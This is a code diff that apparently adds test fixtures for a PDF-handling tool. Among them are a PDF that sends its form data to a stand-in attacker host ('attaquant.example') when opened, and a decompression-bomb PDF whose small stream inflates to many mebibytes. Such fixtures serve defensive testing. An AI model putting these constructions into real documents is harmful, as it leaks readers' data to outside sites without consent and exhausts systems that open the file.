@@ -80,6 +80,26 @@ func EmbeddedFilePDF() []byte {
 	return classic(objs, "")
 }
 
+// SubmitFormPDF sends its form's data to another site when opened.
+func SubmitFormPDF() []byte {
+	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/x) >> /Flags 4 >>")
+	return classic(objs, "")
+}
+
+// InflatingPDF is a valid PDF with a compressed stream of mib MiB of
+// spaces, a thousand times smaller in the file.
+func InflatingPDF(mib int) []byte {
+	var z bytes.Buffer
+	zw := zlib.NewWriter(&z)
+	spaces := bytes.Repeat([]byte{' '}, 1<<20)
+	for range mib {
+		zw.Write(spaces)
+	}
+	zw.Close()
+	objs := append(page(""), fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", z.Len(), z.Bytes()))
+	return classic(objs, "")
+}
+
 // TruncatedPDF is PDF cut in the middle, as an interrupted download leaves
 // it.
 func TruncatedPDF() []byte {
